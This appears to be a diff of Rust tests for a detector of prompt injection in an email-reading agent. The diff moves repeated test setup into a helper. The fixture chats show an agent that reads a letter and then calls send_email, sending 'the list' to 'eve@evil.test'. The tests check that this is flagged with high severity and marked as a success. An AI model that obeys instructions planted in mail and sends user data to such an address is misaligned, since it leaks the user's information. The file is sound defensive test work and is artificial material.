@@ -227,6 +227,15 @@ mod tests {
         Chat::new(SYSTEM).user(user).tool("read_mail", "{}", letter).calls(tool, arguments)
     }
 
+    /// The same conversation once the letter is sent.
+    fn sent(arguments: &str) -> Chat {
+        Chat::new(SYSTEM)
+            .user("What is new in my mailbox?")
+            .tool("read_mail", "{}", LETTER)
+            .tool("send_email", arguments, "sent")
+            .answers("Lunch is at noon.")
+    }
+
     #[test]
     fn a_mail_that_makes_the_agent_send_is_told_and_so_is_what_came_of_it() {
         let to = r#"{"to":"eve@evil.test","body":"the list"}"#;
@@ -234,12 +243,7 @@ mod tests {
         assert_eq!(told(&chat), Some((Severity::High, Outcome::Unknown)));
         let mut town = Town::new(super::SPEC.rule.id);
         town.at(10.0, chat.tx());
-        let after = Chat::new(SYSTEM)
-            .user("What is new in my mailbox?")
-            .tool("read_mail", "{}", LETTER)
-            .tool("send_email", to, "sent")
-            .answers("Lunch is at noon.");
-        town.at(12.0, after.tx());
+        town.at(12.0, sent(to).tx());
         town.run();
         assert_eq!(town.stories()[0].outcome, Outcome::Success);
     }
@@ -251,12 +255,7 @@ mod tests {
         let mut town = Town::new(super::SPEC.rule.id);
         town.at(10.0, chat.tx().running());
         town.at(10.0, chat.tx());
-        let after = Chat::new(SYSTEM)
-            .user("What is new in my mailbox?")
-            .tool("read_mail", "{}", LETTER)
-            .tool("send_email", to, "sent")
-            .answers("Lunch is at noon.");
-        town.at(12.0, after.tx());
+        town.at(12.0, sent(to).tx());
         town.run();
         let told = town.findings();
         assert_eq!(told.len(), 2, "{told:#?}");
